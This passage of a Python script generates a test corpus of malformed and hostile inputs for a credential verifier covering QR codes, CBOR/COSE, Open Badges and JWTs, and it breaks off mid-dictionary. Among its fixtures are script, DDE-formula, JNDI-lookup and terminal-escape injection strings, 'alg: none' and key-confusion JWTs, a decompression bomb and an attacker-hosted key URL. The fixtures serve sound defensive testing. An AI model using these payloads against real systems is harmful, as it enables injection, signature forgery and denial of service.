"""Makes the bad-input corpus: run it again and it makes the same bytes (`python tests/corpus/make.py`).

Every file is judged in `expected.json`, by hand, from the formats (`docs/format.md`), never from what our verifier said
of it. What is too large to keep is made by `bombs` when the tests run. All are checked as of NOW with `static/`.
"""

from __future__ import annotations

import io
import json
import sys
import unicodedata
import zlib
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any, Final

HERE: Final = Path(__file__).parent
sys.path[:0] = [str(HERE.parent / "verifier"), str(HERE.parent / "importing")]

import segno  # noqa: E402 - as the next
from papers import (  # noqa: E402 - beside the tests of the verifier
    BADGE_KEY,
    CERTIFICATE,
    HOST,
    ISSUER,
    ISSUING,
    JWT_KEY,
    LIST,
    LISTED,
    LISTING,
    NOW,
    SIGNING,
    STRANGER,
    TRANSFERRED,
    b64,
    badge,
    badge_jwt,
    bit_list,
    claims_of,
    compact,
    compressed,
    document,
    es256,
    key,
    keys_json,
    noted,
    of_payload,
    p256,
    proved,
    public,
    seconds,
    spelled,
    text,
    token,
    urn,
    written,
)
from PIL import Image  # noqa: E402
from rosters import GOOD as IMPORT  # noqa: E402 - a row of a roster that can be imported
from segno import consts  # noqa: E402

from verifier import badge as badges  # noqa: E402
from verifier import cbor, cose, integrity, keys, multibase, status  # noqa: E402
from verifier import certificate as qr  # noqa: E402

OTHER: Final = "did:web:other.example"
OTHERS, WITHDRAWN = key("others"), key("withdrawn")
REVOKED, SUSPENDED, SUPERSEDED = 1, 2, 3  # entries of the lists, each with the status of its number
AT: Final = int(NOW.timestamp())
DAY: Final = 86_400
SMALL: Final = 8_192  # entries of a list that is made to be wrong


# --- the world: keys and lists ---


def deflated(data: bytes) -> bytes:
    """Deflate in one way, the same bytes whatever zlib is at hand: fixed codes, and runs of 258 equal bytes."""
    bits = ["110"]  # the last block, of fixed codes
    at = 0
    while at < len(data):
        if at and data[at : at + 258] == data[at - 1 : at] * 258:
            bits.append("1100010100000")  # length 258, distance 1
            at += 258
            continue
        one = data[at]
        bits.append(f"{one + 0x30:08b}" if one < 144 else f"{one + 0x100:09b}")
        at += 1
    whole = "".join([*bits, "0000000"])
    whole += "0" * (-len(whole) % 8)
    return int(whole[::-1], 2).to_bytes(len(whole) // 8, "little")


def zlibbed(data: bytes) -> bytes:
    return b"\x78\x01" + deflated(data) + zlib.adler32(data).to_bytes(4)


def gzipped(data: bytes) -> bytes:
    head = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"
    return head + deflated(data) + zlib.crc32(data).to_bytes(4, "little") + len(data).to_bytes(4, "little")


def token_list(packed: bytes | None = None, *, by=LISTING, typ=status.LIST_TYP, **changes: Any) -> bytes:
    """A list of 2 bits; `changes` replace claims by name, `...` leaves one out."""
    statuses = {REVOKED: 1, SUSPENDED: 2, SUPERSEDED: 3}
    packed = status.pack(statuses, SMALL) if packed is None else packed
    stated = {"sub": LIST, "exp": LISTED + status.LIFE, "iat": LISTED, "ttl": 43_200}
    stated |= {"list": {"bits": 2, "lst": zlibbed(packed)}} | changes
    names = {"sub": 2, "exp": 4, "iat": 6, "list": 65_533, "ttl": 65_534}
    return token(
        cbor.encode({names.get(name, name): claim for name, claim in stated.items() if claim is not ...}), typ, by=by
    )


def bit_document(revoked=(REVOKED,), packed: bytes | None = None, **changes: Any) -> dict[str, Any]:
    if packed is None:
        array = bytearray(status.SIZE // 8)
        for index in revoked:
            array[index // 8] |= 128 >> index % 8
        packed = bytes(array)
    return bit_list(encodedList="u" + b64(gzipped(packed))) | changes


def with_subject(whole: dict[str, Any], **changes: Any) -> dict[str, Any]:
    subject = whole["credentialSubject"] | changes
    return whole | {"credentialSubject": {name: value for name, value in subject.items() if value is not ...}}


def published() -> dict[str, Any]:
    def row(controller: str, private, *, number=1, withdrawn=None) -> dict[str, Any]:
        return {
            "kid": cose.thumbprint(public(private)).hex(),
            "use": "certificate",
            "controller": controller,
            "id": f"{controller}#{number}",
            "publicKeyMultibase": keys.multikey(public(private)),
            "from": "2026-01-01T00:00:00Z",
            "until": None,
            "withdrawn": withdrawn,
        }

    page = keys_json()
    page["keys"] += [row(OTHER, OTHERS), row(ISSUER, WITHDRAWN, number=2, withdrawn="2026-11-10T00:00:00Z")]
    return page


def static() -> dict[str, bytes]:
    return {
        "static/keys.json": json.dumps(published(), indent=1).encode(),
        "static/s/1": token_list(status.pack({REVOKED: 1, SUSPENDED: 2, SUPERSEDED: 3}, status.SIZE)),
        "static/s/1.notes": noted({SUPERSEDED: TRANSFERRED}),
        "static/status/revocation/1": spelled(proved(bit_document())),
    }


# --- texts of codes ---


def qr_texts() -> dict[str, str | bytes]:
    good, message = text(), qr.seal(CERTIFICATE, cose.thumbprint(public(ISSUING)), ISSUING.sign)
    digits = good.partition("#")[2]
    changed = bytearray(message)
    changed[-1] ^= 1
    claims = cbor.decode(qr.claims(CERTIFICATE))
    protected = cose.header(cose.thumbprint(public(ISSUING)), qr.TYP)

    def signed(protected: bytes, payload: bytes, *, by=ISSUING) -> bytes:
        return cose.enclose(protected, payload, by.sign(cose.to_be_signed(protected, payload)))

    def headed(fields: dict[int, Any]) -> str:
        return qr.text(HOST, signed(cbor.encode(fields), qr.claims(CERTIFICATE)))

    def claiming(**changes: Any) -> str:
        stated = {int(name[1:].replace("m", "-")): claim for name, claim in changes.items()}
        return of_payload(cbor.encode({name: claim for name, claim in (claims | stated).items() if claim is not ...}))

    def detailed(number: int, value: Any) -> str:
        detail = {name: one for name, one in (claims[qr.DETAIL] | {number: value}).items() if one is not ...}
        return of_payload(cbor.encode(claims | {qr.DETAIL: detail}))

    kid = cose.thumbprint(public(ISSUING))
    signature = message[-64:]
    order = 2**252 + 27742317777372353535851937790883648493
    malleable = message[:-32] + (int.from_bytes(signature[32:], "little") + order).to_bytes(32, "little")
    replaced = CERTIFICATE._replace(name="Siobhán Nguyễn-O’Briem")
    return {
        "good": good,
        "good-rfc9864-algorithm": headed({1: -19, 4: kid, 16: qr.TYP}),
        "good-replacing": text(replaces=bytes(16)),
        "good-white-space-around": f"\r\n\t {good} \n",
        "good-byte-order-mark": f"\ufeff{good}",
        "good-unknown-category": text(category="NEW-2031"),
        "empty": "",
        "white-space-alone": " \r\n\t",
        "zero-bytes": b"\0" * 64,
        "no-utf-8": b"\xff\xfe" + good.encode("utf-16-le"),
        "utf-16": good.encode("utf-16"),
        "two-byte-order-marks": f"\ufeff\ufeff{good}",
        "7089-digits": "1234567890" * 708 + "123456789",
        "prefix-alone": f"https://{HOST}{qr.PATH}",
        "digits-alone": digits,
        "scheme-http": good.replace("https", "http", 1),
        "scheme-javascript": f"javascript:alert(1)//{good}",
        "scheme-data": f"data:text/html,{good}",
        "upper-case": good.upper(),
        "upper-case-host": good.replace(HOST, HOST.upper()),
        "other-path": good.replace("/v1#", "/v2#"),
        "query-not-fragment": good.replace("#", "?"),
        "user-in-address": good.replace("https://", "https://registry.example@"),
        "other-host": text(host="registry.example.evil.test"),
        "other-port": text(host=f"{HOST}:8443"),
        "look-alike-host": text(host="reg1stry.example"),
        "cyrillic-host": good.replace("registry", "rеgistry"),
        "truncated": good[:-40],
        "truncated-by-one-digit": good[:-1],
        "one-digit-more": good + "0",
        "glued-twice": good + good,
        "glued-digits": good + digits,
        "two-lines": f"{good}\n{good}",
        "group-too-large": good.replace(digits[:17], "9" * 17),
        "last-group-too-large": good[: -(len(digits) % 17)] + "9" * (len(digits) % 17),
        "arabic-digits": good.replace("1", "١", 20),
        "superscript-digits": good.replace("2", "²", 20),
        "blank-within": good[:60] + " " + good[60:],
        "nul-at-the-end": good + "\0",
        "vertical-tab-around": good + "\x0b",
        "longer-than-any": qr.text(HOST, bytes(2_000)),
        "message-of-513-bytes": qr.text(HOST, message + bytes(513 - len(message))),
        "byte-after-the-end": qr.text(HOST, message + b"\0"),
        "signature-changed": qr.text(HOST, bytes(changed)),
        "signature-of-zeros": qr.text(HOST, message[:-64] + bytes(64)),
        "signature-malleable": qr.text(HOST, malleable),
        "signature-of-63-bytes": qr.text(HOST, cose.enclose(protected, qr.claims(CERTIFICATE), signature[:63])),
        "signature-of-another": qr.text(HOST, qr.seal(replaced, kid, ISSUING.sign)[:-64] + signature),
        "name-changed": qr.text(HOST, message.replace(b"Brien", b"Briem")),
        "expiry-changed": qr.text(HOST, message.replace(CERTIFICATE.expires_at.to_bytes(4), (2**32 - 1).to_bytes(4))),
        "by-a-stranger": text(by=STRANGER),
        "by-a-stranger-under-our-kid": qr.text(HOST, qr.seal(CERTIFICATE, kid, STRANGER.sign)),
        "by-the-list-key": text(by=LISTING),
        "by-another-issuer": text(by=OTHERS),
        "by-a-withdrawn-key": text(by=WITHDRAWN),
        "kid-of-7-bytes": headed({1: -8, 4: kid[:7], 16: qr.TYP}),
        "kid-as-text": headed({1: -8, 4: kid.hex(), 16: qr.TYP}),
        "no-kid": headed({1: -8, 16: qr.TYP}),
        "type-of-a-list": text(typ=status.LIST_TYP),
        "type-unknown": text(typ="application/cwt"),
        "no-type": headed({1: -8, 4: kid}),
        "algorithm-es256": headed({1: -7, 4: kid, 16: qr.TYP}),
        "algorithm-none": headed({1: 0, 4: kid, 16: qr.TYP}),
        "algorithm-as-text": headed({1: "EdDSA", 4: kid, 16: qr.TYP}),
        "header-critical": headed({1: -8, 2: [1], 4: kid, 16: qr.TYP}),
        "header-with-a-key": headed({1: -8, 4: kid, 16: qr.TYP, -1: public(STRANGER)}),
        "header-empty": qr.text(HOST, signed(b"", qr.claims(CERTIFICATE))),
        "unprotected-kid": qr.text(
            HOST, cose.TAG + cbor.encode([protected, {4: kid}, qr.claims(CERTIFICATE), signature])
        ),
        "no-tag": qr.text(HOST, message[1:]),
        "tag-of-cose-mac0": qr.text(HOST, b"\xd1" + message[1:]),
        "tag-of-cwt": qr.text(HOST, b"\xd8\x3d" + message),
        "payload-missing": qr.text(HOST, signed(protected, b"")),
        "payload-is-a-badge": qr.text(HOST, signed(protected, b'{"@context":[]}')),
        "claim-missing": claiming(c7=...),
        "claim-more": claiming(c6=AT),
        "claim-expiry-as-text": claiming(c4="2027-12-31"),
        "claim-begin-negative": claiming(c5=-1),
        "claim-id-of-15-bytes": claiming(c7=bytes(15)),
        "claim-issuer-as-bytes": claiming(c1=ISSUER.encode()),
        "claim-other-issuer": text(issuer=OTHER),
        "claim-number-empty": claiming(c2=""),
        "claim-number-of-41": claiming(c2="1" * 41),
        "claim-status-without-index": claiming(c65535={"status_list": {"uri": LIST}}),
        "claim-status-of-two-kinds": claiming(c65535={"status_list": {"idx": 1, "uri": LIST}, "identifier_list": {}}),
        "claim-status-index-negative": claiming(c65535={"status_list": {"idx": -1, "uri": LIST}}),
        "detail-of-version-2": detailed(0, 2),
        "detail-more": detailed(9, "more"),
        "detail-without-log": detailed(4, ...),
        "index-beyond-the-list": text(status_index=status.SIZE),
        "index-of-64-bits": text(status_index=2**64 - 1),
        "list-of-another-number": text(status_uri=f"https://{HOST}/s/2"),
        "list-at-another-host": text(status_uri="https://other.example/s/1"),
        "list-with-a-path-upwards": text(status_uri=f"https://{HOST}/s/../s/1"),
        "list-as-file": text(status_uri="file:///s/1"),
        "letter": text(typ=qr.LETTER_TYP),
        "letter-revoked": text(typ=qr.LETTER_TYP, status_index=REVOKED),
        "revoked": text(status_index=REVOKED),
        "suspended": text(status_index=SUSPENDED),
        "superseded": text(status_index=SUPERSEDED),
        "revoked-and-expired": text(status_index=REVOKED, expires_at=AT - DAY),
        "expired": text(expires_at=AT - 1),
        "markup": "<script>alert(1)</script>",
        "formula": "=cmd|'/c calc'!A1",
        "format-string": "%s%n%x{0}{{7*7}}${jndi:ldap://x}",
    }


def names() -> dict[str, str]:
    """What people are called; our registry would never write some of them, but what it signed it signed."""
    given = {
        "apostrophe": "Shane O'Brien",
        "irish": "Ó Briain, Siobhán",
        "vietnamese": "Nguyễn Thị Ánh",
        "one-letter": "O",
        "120-bytes": "A" * 120,
        "121-bytes": "A" * 121,
        "40-letters-of-three-bytes": "ễ" * 40,
        "41-letters-of-three-bytes": "ễ" * 41,
        "arabic": "ليلى حسن",
        "hebrew": "נועה כהן",
        "chinese": "王小明",
        "devanagari-joined": "श्री\u200dमती",
        "not-in-nfc": unicodedata.normalize("NFD", "Ó Briain"),
        "combining-marks": "Z̷̢͔̼a̶̡l̵go",
        "zero-width": "Ann\u200b Lee",
        "right-to-left-override": "nnA\u202eeeL",
        "mixed-script": "Sіobhan",  # its second letter is Cyrillic
        "emoji": "Ann 👩\u200d🍼",
        "terminal-escape": "Ann\x1b[2J\x1b[1;1HVALID",
        "lines": "Ann\r\nverdict: valid",
        "markup": "<b>Ann</b>",
        "template": "{{ 7*7 }} ${7*7} %s",
        "nul": "Ann\0Lee",
        "empty": "",
        "blank": " ",
    }
    return {name: of_payload(qr.claims(CERTIFICATE._replace(name=one))) for name, one in given.items()}


def dates() -> dict[str, str]:
    return {
        "29-february": text(valid_from=seconds("2024-02-29T00:00:00Z"), expires_at=seconds("2028-02-29T23:59:59Z")),
        "last-second": text(expires_at=AT),
        "one-second-ago": text(expires_at=AT - 1),
        "begins-now": text(valid_from=AT),
        "begins-in-a-second": text(valid_from=AT + 1),
        "begins-after-its-end": text(valid_from=AT - DAY, expires_at=AT - 2 * DAY),
        "year-0": text(valid_from=0, expires_at=0),
        "year-9999": text(expires_at=seconds("9999-12-31T23:59:59Z")),
        "year-10000": text(expires_at=seconds("9999-12-31T23:59:59Z") + 1),
        "64-bits": text(expires_at=2**64 - 1),
        "milliseconds": text(valid_from=CERTIFICATE.valid_from * 1000, expires_at=CERTIFICATE.expires_at * 1000),
        "excel-serial": text(valid_from=46_328, expires_at=46_752),
    }


# --- CBOR: RFC 8949, appendix A (examples) and F (not well-formed), in the place of the name, rightly signed ---

_EXAMPLES: Final = """
00 01 0a 17 1818 1819 1864 1903e8 1a000f4240 1b000000e8d4a51000 1bffffffffffffffff c249010000000000000000
3bffffffffffffffff c349010000000000000000 20 29 3863 3903e7 f90000 f98000 f93c00 fb3ff199999999999a f93e00 f97bff
fa47c35000 fa7f7fffff fb7e37e43c8800759c f90001 f90400 f9c400 fbc010666666666666 f97c00 f97e00 f9fc00 fa7f800000
fa7fc00000 faff800000 fb7ff0000000000000 fb7ff8000000000000 fbfff0000000000000 f4 f5 f6 f7 f0 f8ff
c074323031332d30332d32315432303a30343a30305a c11a514b67b0 c1fb41d452d9e8200000 d74401020304 d818456449455446
d82076687474703a2f2f7777772e6578616d706c652e636f6d 40 4401020304 60 6161 6449455446 62225c 62c3bc 63e6b0b4
64f0908591 80 83010203 8301820203820405 98190102030405060708090a0b0c0d0e0f101112131415161718181819 a0 a201020304
a26161016162820203 826161a161626163 a56161614161626142616361436164614461656145 5f42010243030405ff
7f657374726561646d696e67ff 9fff 9f018202039f0405ffff 9f01820203820405ff 83018202039f0405ff 83019f0203ff820405
9f0102030405060708090a0b0c0d0e0f101112131415161718181819ff bf61610161629f0203ffff 826161bf61626163ff
bf6346756ef563416d7421ff
"""
_ILL_FORMED: Final = """
18 19 1a 1b 1901 1a0102 1b01020304050607 38 58 78 98 9a01ff00 b8 d8 f8 f900 fa0000 fb000000 41 61 5affffffff00
5bffffffffffffffff010203 7affffffff00 7b7fffffffffffffff010203 81 818181818181818181 8200 a1 a20102 a100 a2000000
5f4100 7f6100 9f 9f0102 bf bf01020102 819f 9f8000 9f9f9f9f9fffffffff 9f819f819f9fffffff c0 f800 f801 f818 f81f fc fd
fe 1c 1d 1e 1f 3c 3d 3e 3f 5c 5d 5e 7c 7d 7e 9c 9d 9e bc bd be dc dd de ff 5f00ff 5f21ff 5f6100ff 5f80ff 5fa0ff
5fc000ff 5fe0ff 7f4100ff 5f5f4100ffff 7f7f6100ffff 81ff 8200ff a1ff a1ff00 a100ff a20000ff 9f81ff
9f829f819f9fffffffff bf00ff bf000000ff df
"""
_MISSPELT: Final = {  # well-formed, and not the one spelling
    "text-with-a-long-head": "780141",
    "text-with-a-head-of-64-bits": "7b000000000000000141",
    "text-that-is-no-utf-8": "61ff",
    "text-of-a-surrogate": "63eda080",
    "text-overlong": "62c080",
    "text-in-pieces": "7f6141ff",
    "map-key-twice": "a2000100 02".replace(" ", ""),
    "map-out-of-order": "a201000000",
    "number-with-a-long-head": "1800",
    "shared-reference": "d81d00",
    "self-described": "d9d9f76141",
}


def cbor_texts() -> dict[str, str]:
    name = CERTIFICATE.name.encode()
    place = cbor.encode(CERTIFICATE.name)
    whole = qr.claims(CERTIFICATE)
    assert whole.count(place) == 1, name

    def put(spelled: str) -> str:
        return of_payload(whole.replace(place, bytes.fromhex(spelled)))

    made = {f"example-{one}": put(one) for one in _EXAMPLES.split() if len(one) <= 60}
    made |= {f"ill-formed-{one}": put(one) for one in dict.fromkeys(_ILL_FORMED.split())}
    made |= {name: put(one) for name, one in _MISSPELT.items()}
    made |= {
        f"{name}-{depth}-deep": of_payload(bytes.fromhex(one) * depth)
        for name, one in {"arrays": "81", "maps": "a100", "tags": "c6", "open-arrays": "9f"}.items()
        for depth in (9, 100)
    }
    return made | {
        "a-length-of-64-bits": of_payload(b"\x9b" + b"\x7f" + b"\xff" * 7),
        "a-text-of-4-gigabytes": of_payload(b"\x7a\xff\xff\xff\xff"),
        "a-map-of-4-billion": of_payload(b"\xba\xff\xff\xff\xff\0\0"),
        "two-items": of_payload(whole + b"\0"),
    }


# --- badges ---


def misshapen(whole: dict[str, Any]) -> bytes:
    """Rightly signed, though we would never write it."""
    options = {
        "@context": whole.get("@context"),
        "type": "DataIntegrityProof",
        "cryptosuite": integrity.JCS,
        "created": written(CERTIFICATE.valid_from),
        "verificationMethod": BADGE_KEY,
        "proofPurpose": "assertionMethod",
    }
    options = {name: one for name, one in options.items() if one is not None}
    value = multibase.encode(ISSUING.sign(integrity.to_be_signed(whole, options)))
    return spelled({**whole, "proof": {**options, "proofValue": value}})


def badge_files() -> dict[str, bytes]:
    whole = document()
    good = badge()
    other = document(CERTIFICATE._replace(name="Another Name"))

    def subject(**changes: Any) -> bytes:
        return badge(with_subject(whole, **changes))

    def status_of(**changes: Any) -> bytes:
        return badge(whole | {"credentialStatus": whole["credentialStatus"] | changes})

    def entry(index: int) -> bytes:
        return badge(document(CERTIFICATE._replace(status_index=index)))

    def proofs(change) -> bytes:
        changed = json.loads(good)
        changed["proof"] = change(changed["proof"])
        return spelled(changed)

    def jcs(**changes: Any) -> bytes:
        return proofs(
            lambda both: [both[0], {name: one for name, one in (both[1] | changes).items() if one is not ...}]
        )

    def respelt(old: str, new: str) -> bytes:
        assert good.decode().count(old) >= 1, old
        return good.decode().replace(old, new, 1).encode()

    def identity(**changes: Any) -> bytes:
        return subject(identifier=[whole["credentialSubject"]["identifier"][0] | changes])

    value = json.loads(good)["proof"][1]["proofValue"]
    nested = "[" * 40 + "]" * 40
    return {
        "good": good,
        "good-indented": json.dumps(json.loads(good), indent=3, ensure_ascii=False).encode(),
        "good-in-another-order": json.dumps(json.loads(good), sort_keys=True).encode(),
        "good-with-escapes": good.replace(b'"validUntil"', b'"valid\\u0055ntil"'),
        "good-byte-order-mark": b"\xef\xbb\xbf" + good + b"\r\n",
        "good-one-proof": proofs(lambda both: both[1]),
        "good-proofs-turned": proofs(lambda both: both[::-1]),
        "good-achievement-credential": badge(whole | {"type": ["VerifiableCredential", "AchievementCredential"]}),
        "good-issuer-alone": badge(whole | {"issuer": ISSUER}),
        "good-two-contexts": badge(whole | {"@context": whole["@context"][:2]}),
        "empty-object": b"{}",
        "array": b"[" + good + b"]",
        "cut-short": good[:-20],
        "glued-twice": good + good,
        "followed-by-a-nul": good + b"\0",
        "followed-by-a-comma": good + b",",
        "trailing-comma": good[:-1] + b",}",
        "single-quotes": good.replace(b'"', b"'"),
        "with-a-comment": b"{/* */" + good[1:],
        "with-a-form-feed": b"{\x0c" + good[1:],
        "utf-16": good.decode().encode("utf-16"),
        "utf-16-without-mark": good.decode().encode("utf-16-be"),
        "not-utf-8": good.replace(b"An association", b"An associati\xf6n"),
        "nul-in-a-text": good.replace(b"An association", b"An\x00association"),
        "line-in-a-text": good.replace(b"An association", b"An\nassociation"),
        "member-twice-the-same": respelt('"validUntil":', '"validUntil": "2099-12-31T23:59:59Z", "validUntil":'),
        "member-twice-within": respelt('"hashed": false', '"hashed": true, "hashed": false'),
        "member-twice-by-escapes": respelt('"id":', '"\\u0069d": "urn:uuid:0", "id":'),
        "not-a-number": respelt('"hashed": false', '"hashed": NaN'),
        "infinity": respelt('"hashed": false', '"hashed": -Infinity'),
        "number-with-a-fraction": misshapen(with_subject(whole, score=1.5)),
        "number-1.0": respelt('"hashed": false', '"hashed": false, "score": 1.0'),
        "number-of-10000-digits": respelt('"hashed": false', f'"hashed": false, "score": {"9" * 10_000}'),
        "number-with-a-huge-exponent": respelt('"hashed": false', '"hashed": false, "score": 1e999999'),
        "number-of-2-to-53": respelt('"hashed": false', f'"hashed": false, "score": {2**53}'),
        "number-with-a-zero": respelt('"hashed": false', '"hashed": false, "score": 01'),
        "half-a-surrogate-pair": respelt("An association", "An \\ud800 association"),
        "halves-in-the-wrong-order": respelt("An association", "An \\udc00\\ud800 association"),
        "nested-40-deep": respelt('"hashed": false', f'"hashed": false, "more": {nested}'),
        "good-white-space-around": b"\r\n\t" + good + b" " * 100 + b"\n",
        "name-changed": good.replace(b"O\\u2019Brien", b"O\\u2019Briem"),
        "expiry-changed": good.replace(b"2027-12-31", b"2029-12-31"),
        "member-added": respelt('"name":', '"description": "It is more.", "name":'),
        "member-lost": spelled({name: one for name, one in json.loads(good).items() if name != "credentialStatus"}),
        "proof-of-another": spelled({**document(), "proof": json.loads(badge(other))["proof"]}),
        "by-a-stranger": badge(by=STRANGER),
        "by-a-key-it-brings": jcs(verificationMethod="did:key:" + keys.multikey(public(STRANGER))),
        "by-the-list-key": badge(by=LISTING, key=f"{ISSUER}:status#1"),
        "by-the-key-of-jwts": jcs(verificationMethod=JWT_KEY),
        "by-another-issuer": badge(by=OTHERS, key=f"{OTHER}#1"),
        "of-another-issuer": badge(whole | {"issuer": {"id": OTHER}}, by=OTHERS, key=f"{OTHER}#1"),
        "by-a-withdrawn-key": badge(by=WITHDRAWN, key=f"{ISSUER}#2"),
        "no-proof": spelled(whole),
        "proof-empty": proofs(lambda _: []),
        "proof-a-text": proofs(lambda both: both[1]["proofValue"]),
        "proof-of-rdfc-alone": proofs(lambda both: [both[0]]),
        "proof-twice": proofs(lambda both: [both[1], both[1]]),
        "proof-of-rdfc-twice": proofs(lambda both: [both[0], *both]),
        "proof-of-a-third-kind": proofs(lambda both: [*both, {"type": "JsonWebSignature2020"}]),
        "proof-of-ecdsa": jcs(cryptosuite="ecdsa-jcs-2019"),
        "proof-of-another-purpose": badge(whole, proofPurpose="authentication"),
        "proof-with-a-domain": badge(whole, domain="registry.example"),
        "proof-of-other-contexts": badge(whole, **{"@context": [badges.OB_CONTEXT]}),
        "proof-made-after-the-end": badge(whole, created=CERTIFICATE.expires_at + 1),
        "proof-ended": badge(whole, expires=written(AT - 1)),
        "proof-made-tomorrow": badge(whole, created=AT + DAY),
        "proof-value-in-base64": jcs(proofValue="u" + value[1:]),
        "proof-value-with-a-one-before": jcs(proofValue="z1" + value[1:]),
        "proof-value-cut-short": jcs(proofValue=value[:-1]),
        "proof-value-with-a-zero": jcs(proofValue=value[:-1] + "0"),
        "context-missing": misshapen({name: one for name, one in whole.items() if name != "@context"}),
        "context-of-another": badge(whole | {"@context": [*whole["@context"], "https://evil.test/context"]}),
        "context-in-another-order": badge(whole | {"@context": whole["@context"][::-1]}),
        "context-with-an-object": respelt('"@context": [', '"@context": [{"@vocab": "https://evil.test/"}, '),
        "member-as-iri": badge_with_iri(),
        "member-as-keyword": respelt('"name":', '"@included": {}, "name":'),
        "member-not-in-ascii": respelt('"hashed": false', '"hashed": false, "nаme": "x"'),
        "member-unknown": badge(whole | {"evidence": []}),
        "type-more": badge(whole | {"type": [*whole["type"], "Diploma"]}),
        "type-a-text": badge(whole | {"type": "VerifiableCredential"}),
        "id-no-urn": badge(whole | {"id": "https://registry.example/badges/1"}),
        "id-in-capitals": badge(whole | {"id": urn(CERTIFICATE.cti).upper().replace("URN:UUID", "urn:uuid")}),
        "issuer-missing": badge({name: one for name, one in whole.items() if name != "issuer"}),
        "issuer-a-number": badge(whole | {"issuer": 7}),
        "subject-a-list": badge(whole | {"credentialSubject": [whole["credentialSubject"]]}),
        "two-names": subject(identifier=whole["credentialSubject"]["identifier"] * 2),
        "name-hashed": identity(hashed=True),
        "name-salted": identity(salt="x"),
        "name-of-mail": identity(identityType="emailAddress"),
        "name-not-in-nfc": identity(identityHash=unicodedata.normalize("NFD", CERTIFICATE.name)),
        "name-of-121-bytes": identity(identityHash="A" * 121),
        "name-empty": identity(identityHash=""),
        "number-missing": subject(licenseNumber=...),
        "number-of-41": subject(licenseNumber="1" * 41),
        "association-elsewhere": subject(source={"id": "https://other.example/people/VA"}),
        "achievement-missing": subject(achievement=...),
        "time-without-zone": badge_dated("2027-12-31T23:59:59"),
        "time-with-an-offset": badge_dated("2027-12-31T23:59:59+00:00"),
        "time-with-a-fraction": badge_dated("2027-12-31T23:59:59.000Z"),
        "time-a-day": badge_dated("2027-12-31"),
        "time-day-first": badge_dated("31-12-2027T23:59:59Z"),
        "time-of-30-february": badge_dated("2027-02-30T23:59:59Z"),
        "time-of-year-0": badge_dated("0000-01-01T00:00:00Z"),
        "time-in-arabic-digits": badge_dated("٢٠٢٧-12-31T23:59:59Z"),
        "no-status": badge(document(credentialStatus=...)),
        "status-of-two": badge(whole | {"credentialStatus": [whole["credentialStatus"]] * 2}),
        "status-of-suspension": status_of(statusPurpose="suspension"),
        "status-of-another-type": status_of(type="RevocationList2020Status"),
        "status-index-a-number": status_of(statusListIndex=4711),
        "status-index-with-a-zero": status_of(statusListIndex="04711"),
        "status-index-negative": status_of(statusListIndex="-1"),
        "status-index-beyond": status_of(statusListIndex="131072"),
        "status-at-another-place": status_of(statusListCredential=f"https://{HOST}/evil/1"),
        "status-at-another-host": status_of(statusListCredential="https://other.example/status/revocation/1"),
        "status-with-a-path-upwards": status_of(statusListCredential=f"https://{HOST}/status/revocation/../1"),
        "revoked": entry(REVOKED),
        "suspended": entry(SUSPENDED),
        "superseded": entry(SUPERSEDED),
        "expired": badge(document(CERTIFICATE._replace(expires_at=AT - 1))),
        "not-yet-valid": badge(document(CERTIFICATE._replace(valid_from=AT + DAY))),
        "presentation": spelled({"@context": whole["@context"][:1], "type": ["VerifiablePresentation"]}),
        "a-did-document": spelled({"id": ISSUER, "verificationMethod": []}),
        "a-bitstring-list": spelled(proved(bit_document(packed=bytes(16)))),
    }


def badge_with_iri() -> bytes:
    """The hole of `eddsa-rdfc-2022`: to readers of JSON-LD this is `validUntil`, to others there is none."""
    whole = json.loads(badge())
    whole["https://www.w3.org/2018/credentials#validUntil"] = whole.pop("validUntil")
    return spelled(whole)


def badge_with_proof_value(value: str) -> bytes:
    whole = json.loads(badge())
    whole["proof"][1]["proofValue"] = value
    return spelled(whole)


def badge_dated(until: str) -> bytes:
    return misshapen(document() | {"validUntil": until})


def jwts() -> dict[str, bytes]:
    good = badge_jwt()
    head, body, tail = good.split(b".")
    claims = claims_of(document())
    order = int("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", 16)

    def b64d(part: bytes) -> bytes:
        from base64 import urlsafe_b64decode

        return urlsafe_b64decode(part + b"=" * (-len(part) % 4))

    signature = b64d(tail)
    mirrored = signature[:32] + (order - int.from_bytes(signature[32:])).to_bytes(32)

    def headed(**fields: Any) -> bytes:
        header = {name: one for name, one in ({"alg": "ES256", "kid": JWT_KEY} | fields).items() if one is not ...}
        return compact(header, claims, lambda message: es256(SIGNING, message))

    def spelt(header: str, payload: bytes | None = None) -> bytes:
        parts = f"{b64(header.encode())}.{b64(payload) if payload else body.decode()}"
        return f"{parts}.{b64(es256(SIGNING, parts.encode()))}".encode()

    def with_signature(one: bytes) -> bytes:
        return b".".join([head, body, b64(one).encode()])

    def hmac(message: bytes) -> bytes:
        import hashlib
        import hmac as keyed

        return keyed.new(compressed(SIGNING), message, hashlib.sha256).digest()

    bomb = zlib.compressobj(wbits=-15)
    deflated = bomb.compress(b"[" * 1_000_000) + bomb.flush()
    return {
        "good": good,
        "good-typ-jwt": headed(typ="JWT"),
        "good-typ-vc-jwt": headed(typ="vc+jwt"),
        "good-white-space-around": b"\xef\xbb\xbf \n" + good + b"\r\n",
        "good-signature-mirrored": with_signature(mirrored),
        "two-parts": b".".join([head, body]),
        "four-parts": good + b"." + tail,
        "five-parts": b".".join([head, b"", head, body, tail]),
        "empty-signature": b".".join([head, body, b""]),
        "empty-parts": b"ey..",
        "algorithm-none": compact({"alg": "none", "kid": JWT_KEY}, claims, lambda _: b""),
        "algorithm-none-signed": headed(alg="none"),
        "algorithm-in-lower-case": headed(alg="es256"),
        "algorithm-hs256-with-our-key": compact({"alg": "HS256", "kid": JWT_KEY}, claims, hmac),
        "algorithm-eddsa": compact({"alg": "EdDSA", "kid": BADGE_KEY}, claims, ISSUING.sign),
        "algorithm-es384": headed(alg="ES384"),
        "algorithm-a-list": headed(alg=["ES256"]),
        "zipped": headed(zip="DEF"),
        "zipped-bomb": spelt(json.dumps({"alg": "ES256", "kid": JWT_KEY, "zip": "DEF"}), deflated),
        "zipped-bomb-unsaid": spelt(json.dumps({"alg": "ES256", "kid": JWT_KEY}), deflated),
        "header-with-a-key": headed(jwk={"kty": "EC", "crv": "P-256", "x": "AA", "y": "AA"}),
        "header-with-an-address": headed(jku="https://evil.test/keys"),
        "header-with-a-chain": headed(x5c=["AA=="]),
        "header-critical": headed(crit=["exp"]),
        "header-unencoded": headed(b64=False),
        "header-of-another-type": headed(typ="at+jwt"),
        "header-without-kid": headed(kid=...),
